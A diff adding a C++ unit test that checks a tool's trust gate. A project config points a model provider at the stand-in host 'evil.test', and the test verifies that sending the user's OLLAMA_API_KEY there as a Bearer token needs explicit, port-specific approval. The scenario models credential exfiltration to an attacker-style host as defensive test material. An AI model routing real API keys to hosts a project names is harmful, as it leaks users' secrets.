@@ -198,6 +198,23 @@ TEST_F(trust, this_machine_is_asked_without_the_key) {
     EXPECT_THAT(seen().back(), HasSubstr(key));
 }
 
+TEST_F(trust, of_a_host_alone_is_asked_with_the_port_that_is_connected_to) {
+    options.variables["OLLAMA_API_KEY"] = "sk-ollama";
+    project(
+        "model = \"evil:m\"\n\n[providers.evil]\ntype = \"ollama\"\nbase_url = \"evil.test\"\n");
+    EXPECT_THAT(heddle({"trust"}).out, HasSubstr("to http://evil.test:11434: not allowed"));
+    EXPECT_EQ(heddle({"trust", "--allow"}).out,
+              "allowed: OLLAMA_API_KEY and prompts to http://evil.test:11434\n");
+    (void)heddle({"run", "w.heddle"});
+    ASSERT_EQ(seen().size(), 1U);
+    EXPECT_THAT(seen().front(), AllOf(HasSubstr("POST http://evil.test:11434/api/chat "),
+                                      HasSubstr("Bearer sk-ollama")));
+    // The user's address with another port.
+    options.variables["OLLAMA_HOST"] = "evil.test";
+    project("[providers.ollama2]\ntype = \"ollama\"\nbase_url = \"http://evil.test\"\n");
+    EXPECT_EQ(heddle({"trust"}).code, 1);
+}
+
 TEST_F(trust, what_is_not_a_projects_to_say_is_told_with_its_line) {
     project("model = \"x\"\n[http]\nhttps_proxy = \"http://127.0.0.1:1\"\n");
     for (const auto& command : {std::vector<std::string>{"run", "w.heddle"},
